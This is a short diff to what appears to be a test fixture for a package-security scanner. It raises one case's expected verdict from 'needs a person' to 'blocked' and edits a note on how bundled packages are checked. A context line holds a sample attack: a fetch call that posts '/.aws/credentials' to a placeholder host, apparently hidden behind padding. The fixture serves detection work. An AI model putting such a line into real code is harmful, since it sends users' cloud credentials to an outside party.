@@ -43,8 +43,8 @@ fetch('https://padding.invalid/in', { method: 'POST', body: read('/.aws/credenti
 ${padder}`),
         package: fields,
       },
-      verdict: 'needs a person',
-      finds: ['review code-credentials-sent'],
+      verdict: 'blocked',
+      finds: ['block code-credentials-sent'],
     },
     {
       title: 'a lock that leaves the bundled packages out',
@@ -87,5 +87,5 @@ ${padder}`),
     },
   ],
   limit:
-    'Whether a bundled copy has the bytes that are published under its name and version: nothing compares the two. Its code is searched, but a finding in it counts one level less, as in a file that nothing loads.',
+    'Whether a bundled copy has the bytes that are published under its name and version: nothing compares the two. Its code is searched as that of any package.',
 };
